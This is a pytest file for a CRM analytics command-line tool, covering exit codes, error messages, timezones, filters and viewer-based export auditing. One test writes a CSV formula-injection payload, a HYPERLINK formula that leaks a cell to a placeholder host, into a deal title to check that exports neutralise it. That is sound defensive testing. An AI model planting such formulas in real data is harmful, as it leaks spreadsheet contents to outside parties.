"""python -m queries: exit codes (0 ok, 1 data problem, 2 usage) and one-line errors, in a subprocess."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.audit_rows import export_audit

REPO = Path(__file__).resolve().parents[2]


def cli(*args: str, cwd: Path = REPO, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    environ = {k: v for k, v in os.environ.items() if k != "DOZHIM_RULES"}
    return subprocess.run([sys.executable, "-m", "queries", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=60, env={**environ, **(env or {})})


def test_list():
    out = cli("--list")
    assert out.returncode == 0
    names = [line.split()[0] for line in out.stdout.splitlines()]
    assert "scorecard" in names and "stale_deals" in names and len(names) >= 19


def test_scorecard_json(fixture_db):
    out = cli("scorecard", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00", "--format", "json")
    assert out.returncode == 0, out.stderr
    rows = json.loads(out.stdout)
    assert [(r["manager_id"], r["active_deals"], r["stale_deals"]) for r in rows] == [(1, 7, 2), (2, 2, 0),
                                                                                      (3, 2, 2)]


def test_naive_as_of_is_portal_time(fixture_db):
    # 23:50 portal time on the 19th: the 23:30 call is not yet "before today" (read as UTC it would be
    # 02:50 on the 20th, and the call would count)
    out = cli("unprocessed_incoming", "--db", str(fixture_db), "--as-of", "2026-11-19T23:50",
              "--format", "csv")
    assert out.returncode == 0, out.stderr
    ids = sorted(int(r["activity_id"]) for r in csv.DictReader(io.StringIO(out.stdout)))
    assert ids == [2013, 2051]


def test_manager_filter_and_table(fixture_db):
    out = cli("stale_deals", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00+03:00", "--manager", "3")
    assert out.returncode == 0, out.stderr
    assert "Dismissed owner" in out.stdout and "Old never touched" not in out.stdout


def test_limit_prints_the_first_rows_and_says_more_exist(fixture_db):
    # unprocessed_incoming at 18:00 on the 20th lists three activities (EXPECTED_SCORECARD: Boris's 3);
    # --limit 2 prints the first two in the metric's order and says how long the list is
    whole = cli("unprocessed_incoming", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00",
                "--format", "csv")
    head = cli("unprocessed_incoming", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00",
               "--format", "csv", "--limit", "2")
    assert head.returncode == 0, head.stderr
    assert head.stdout.splitlines() == whole.stdout.splitlines()[:3]  # the header and the first two rows
    assert head.stderr == "(the first 2 of 3 rows)\n"


def test_rules_option(fixture_db, tmp_path):
    rules = tmp_path / "r.toml"
    rules.write_text("max_deal_age_days = 200\n")
    out = cli("overaged_deals", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00", "--rules", str(rules),
              "--format", "csv")
    assert out.returncode == 0 and out.stdout.strip().count("\n") == 0  # header only


@pytest.mark.parametrize(("args", "code", "message"), [
    (("scorecard",), 2, "error: --db PATH is required"),
    ((), 2, "error: name a metric"),
    (("nope", "--db", "x.duckdb"), 2, "error: unknown metric 'nope'"),
    (("scorecard", "--db", "x.duckdb", "--as-of", "yesterday"), 2, "error: argument --as-of: not an ISO"),
    (("scorecard", "--db", "x.duckdb", "--format", "xml"), 2, "error: argument --format"),
    (("scorecard", "--db", "x.duckdb", "--manager", "anna"), 2, "error: argument --manager"),
    (("scorecard", "--db", "x.duckdb", "--limit", "0"), 2, "error: argument --limit: not a number of rows"),
    (("scorecard", "--db", "/nonexistent/crm.duckdb"), 1,
     "error: database not found: /nonexistent/crm.duckdb"),
])
def test_bad_arguments(args, code, message):
    out = cli(*args)
    assert out.returncode == code
    assert out.stderr.startswith(message), out.stderr
    assert out.stderr.count("\n") == 1 and "Traceback" not in out.stderr


def test_foreign_files(tmp_path, fixture_db):
    text = tmp_path / "notes.duckdb"
    text.write_text("hello")
    out = cli("scorecard", "--db", str(text))
    assert out.returncode == 1 and out.stderr.startswith("error: not a Dozhim database (not a DuckDB file)")
    import duckdb

    other = tmp_path / "other.duckdb"
    duckdb.connect(str(other)).close()
    out = cli("scorecard", "--db", str(other))
    assert out.returncode == 1 and out.stderr.startswith("error: not a Dozhim database (no meta table)")
    assert out.stderr.count("\n") == 1


def test_bad_rules_file(fixture_db, tmp_path):
    rules = tmp_path / "r.toml"
    rules.write_text("max_age = 3\n")
    out = cli("scorecard", "--db", str(fixture_db), "--rules", str(rules))
    assert out.returncode == 1
    assert out.stderr == f"error: {rules}: max_age: unknown key\n"  # the file in force, by its path


@pytest.mark.parametrize(("flag", "value", "what"), [
    ("--manager", "999", "user"), ("--pipeline", "7", "deal pipeline"), ("--department", "5", "department"),
])
def test_unknown_filter_is_refused(fixture_db, flag, value, what):
    # was an empty table: "nothing to do" for a manager who does not exist
    out = cli("stale_deals", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00", flag, value)
    assert out.returncode == 2 and out.stdout == ""
    assert out.stderr == f"error: {flag} {value}: no such {what} in {fixture_db}\n"


def test_known_filters_pass(fixture_db):
    # Galina (4) is a user with closed deals only, pipeline 3 and department 11 exist
    out = cli("conversion", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00", "--manager", "4",
              "--pipeline", "0", "--department", "10", "--format", "csv")
    assert out.returncode == 0, out.stderr


@pytest.fixture
def editable_db(fixture_db, tmp_path) -> Path:
    db = tmp_path / "crm.duckdb"
    db.write_bytes(fixture_db.read_bytes())
    return db


@pytest.mark.parametrize(("args", "message"), [
    # Anna (1) is in department 10 only, Boris (2) in 11 (fixture_db users); user 9 (added) owns no deal
    (("--manager", "1", "--department", "11"),
     "--manager 1 is not in --department 11 (or below): that filter selects nobody"),
    (("--manager", "9"), "--manager 9: user 9 owns no deals in {db}"),
])
def test_a_manager_filter_that_selects_nobody_is_refused(editable_db, args, message):
    import duckdb

    with duckdb.connect(str(editable_db)) as con:
        con.execute("insert into users (id, active, name, last_name, uf_department) "
                    "values (9, true, 'Dmitry', 'Admin', [10])")
    # was an empty table (exit 0): "nothing to do" for a combination that selects nobody
    out = cli("stale_deals", "--db", str(editable_db), "--as-of", "2026-11-20T18:00", *args)
    assert out.returncode == 2 and out.stdout == ""
    assert out.stderr == "error: " + message.format(db=editable_db) + "\n"


@pytest.mark.parametrize(("args", "message"), [
    (("--month", "9999-12"), "--month 9999-12-01 is out of range (years 1990-2200)"),
    (("--as-of", "9999-12-31T00:00"), "--as-of 9999-12-31T00:00:00 is out of range (years 1990-2200)"),
    (("--to", "9999-12-31"), "--to 9999-12-31 is out of range (years 1990-2200)"),
    (("--from", "0001-01-01"), "--from 0001-01-01 is out of range (years 1990-2200)"),
])
def test_moments_out_of_range_are_one_line(fixture_db, args, message):
    # were tracebacks (ValueError / OverflowError deep in the date arithmetic), exit 1
    out = cli("conversion", "--db", str(fixture_db), *args)
    assert (out.returncode, out.stdout, out.stderr) == (2, "", f"error: {message}\n")


def test_csv_neutralises_formulas_and_table_shows_dashes(editable_db):
    import duckdb

    db = editable_db
    with duckdb.connect(str(db)) as con:  # any CRM user can title a deal like this
        con.execute("""update deals set title = '=HYPERLINK("http://x/?leak="&A1,"x")' where id = 101""")
    out = cli("overaged_deals", "--db", str(db), "--as-of", "2026-11-20T18:00", "--format", "csv")
    assert out.returncode == 0, out.stderr
    titles = [r["deal_title"] for r in csv.DictReader(io.StringIO(out.stdout))]
    assert """'=HYPERLINK("http://x/?leak="&A1,"x")""" in titles
    # the backlog's latest_item_at is empty for every rule but the two activity rules
    table = cli("backlog", "--db", str(db), "--as-of", "2026-11-20T18:00")
    assert table.returncode == 0, table.stderr
    assert "None" not in table.stdout and "NaN" not in table.stdout and "—" in table.stdout


def test_from_after_to_is_refused(fixture_db):
    out = cli("conversion", "--db", str(fixture_db), "--from", "2026-11-30", "--to", "2026-11-01")
    assert out.returncode == 2
    assert out.stderr == "error: --from 2026-11-30 is after --to 2026-11-01\n"


def test_times_print_in_the_portal_zone(fixture_db):
    # D105's "Late yesterday" task is due 19 Nov 23:59 portal time (+03:00), stored as 20:59 UTC
    out = cli("overdue_activities", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00", "--format", "csv")
    assert out.returncode == 0, out.stderr
    due = {r["activity_id"]: r["deadline"] for r in csv.DictReader(io.StringIO(out.stdout))}
    assert due["1052"] == "2026-11-19T23:59:00+03:00"
    assert due["1032"] == "2026-11-19T10:00:00+03:00"


def test_times_follow_an_iana_zone_in_the_rules(fixture_db, tmp_path):
    rules = tmp_path / "r.toml"
    rules.write_text('[calendar]\ntimezone = "Asia/Yekaterinburg"\n')  # +05:00
    out = cli("overdue_activities", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00+03:00",
              "--rules", str(rules), "--format", "json")
    assert out.returncode == 0, out.stderr
    due = {r["activity_id"]: r["deadline"] for r in json.loads(out.stdout)}
    assert due[1032] == "2026-11-19T12:00:00+05:00"


def test_rules_in_force_from_the_environment(fixture_db, tmp_path):
    # no --rules: $DOZHIM_RULES wins over ./rules.toml (the repo's defaults), as on the dashboard and the job
    rules = tmp_path / "r.toml"
    rules.write_text("max_deal_age_days = 200\n")
    args = ("overaged_deals", "--db", str(fixture_db), "--as-of", "2026-11-20T18:00", "--format", "csv")
    assert cli(*args).stdout.strip().count("\n") == 3  # D101, D104 (Anna), D202 (Boris) by default
    out = cli(*args, env={"DOZHIM_RULES": str(rules)})
    assert out.returncode == 0 and out.stdout.strip().count("\n") == 0  # header only


# --- --viewer (issue 9): exactly what that user sees; export is a right; every export is audited ----------

AUDIT = "user_id, role, what, format, rows, filters"  # the audit columns these tests read

def _viewer_db(fixture_db: Path, tmp_path: Path) -> tuple[Path, Path]:
    """A private copy of the fixture (the audit file goes beside it) and rules that make Boris (2) a plain
    manager; Anna (1) heads the top department 10."""
    import shutil

    db = tmp_path / "crm.duckdb"
    shutil.copyfile(fixture_db, db)
    rules = tmp_path / "rules.toml"
    rules.write_text("[access]\nmanagers = [2]\n", encoding="utf-8")
    return db, rules


@pytest.mark.parametrize(("viewer", "message"), [
    ("99", "error: --viewer 99: user 99 is not in the snapshot"),
    ("3", "error: --viewer 3: user 3 is dismissed"),
])
def test_viewer_unknown_or_dismissed(fixture_db, tmp_path, viewer, message):
    db, rules = _viewer_db(fixture_db, tmp_path)
    out = cli("scorecard", "--db", str(db), "--rules", str(rules), "--viewer", viewer)
    assert out.returncode == 2 and out.stdout == ""
    assert out.stderr.strip() == message


def test_viewer_manager_sees_own_rows_and_may_not_export(fixture_db, tmp_path):
    db, rules = _viewer_db(fixture_db, tmp_path)
    base = ("scorecard", "--db", str(db), "--rules", str(rules), "--as-of", "2026-11-20T18:00",
            "--viewer", "2")
    table = cli(*base)
    assert table.returncode == 0, table.stderr
    assert "Boris Petrov" in table.stdout and "Anna" not in table.stdout and "Viktor" not in table.stdout
    refused = cli(*base, "--format", "csv")
    assert refused.returncode == 2 and refused.stdout == ""
    assert refused.stderr.strip() == ("error: --viewer 2 (manager) may not export: --format csv is refused "
                                      "(the export right: [access] in the rules file)")
    other = cli(*base, "--manager", "1")
    assert other.returncode == 2 and other.stderr.strip() == "error: user 2 may not see manager 1"
    assert export_audit(db, AUDIT) == []  # nothing was handed out


def test_viewer_head_exports_their_scope_with_an_audit_row(fixture_db, tmp_path):
    db, _ = _viewer_db(fixture_db, tmp_path)
    out = cli("stale_deals", "--db", str(db), "--as-of", "2026-11-20T18:00", "--viewer", "2",
              "--format", "json")
    assert out.returncode == 0, out.stderr
    # Boris heads Sales East (11): his and Viktor's stale deals, D108 and D301 (fixture_db.py)
    assert sorted(r["deal_id"] for r in json.loads(out.stdout)) == [108, 301]
    assert export_audit(db, AUDIT) == [(2, "head", "stale_deals", "json", 2, "as_of=2026-11-20T18:00:00")]
    table = cli("stale_deals", "--db", str(db), "--viewer", "2")
    assert table.returncode == 0 and len(export_audit(db, AUDIT)) == 1  # a table on screen is no export
